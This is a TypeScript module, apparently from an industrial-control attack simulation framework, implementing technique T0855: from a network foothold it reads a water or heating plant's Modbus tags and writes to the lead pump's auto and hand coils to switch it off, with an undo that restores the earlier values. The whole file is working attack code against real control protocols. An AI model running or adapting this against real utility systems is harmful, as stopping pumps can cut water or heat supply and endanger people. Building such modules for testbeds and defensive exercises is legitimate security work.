// T0855 Unauthorized Command Message: a foreign Modbus client takes a pump out of automatic and switches it off with function 5.
import { z } from 'zod'
import { ModbusDesk } from '../plc/modbus-desk.ts'
import type { Attack } from './attack.ts'
import { InsistSeconds } from './insist.ts'

const Parameters = z.strictObject({
  pump: z.enum(['lead', '1', '2']).default('lead').describe('The pump that is stopped: the one that leads, or one by number.'),
  insistSeconds: InsistSeconds
})

export const pumpStop = {
  name: 'pump-stop',
  title: { zh: '停泵', en: 'Stopped pump' },
  technique: 'T0855',
  plants: ['water', 'heat'],
  parameters: Parameters,
  async aim(foothold, { pump, insistSeconds }) {
    await using link = await foothold.link()
    const desk = new ModbusDesk({ map: foothold.map, link })
    await desk.look(foothold.seconds)
    const number = pump === 'lead' ? (desk.value('pump.lead') === 2 ? '2' : '1') : pump
    const [auto, hand] = [`pump${number}.auto`, `pump${number}.hand`]
    const before = { [auto]: desk.value(auto), [hand]: desk.value(hand) }
    const write = async (values: Record<string, number>) => {
      await using own = await foothold.link()
      await new ModbusDesk({ map: foothold.map, link: own }).write(values)
    }
    return {
      ...{ tags: [auto, hand], hosts: [link.host], insistSeconds },
      strike: () => write({ [auto]: 0, [hand]: 0 }),
      undo: () => write(before)
    }
  }
} satisfies Attack<typeof Parameters>
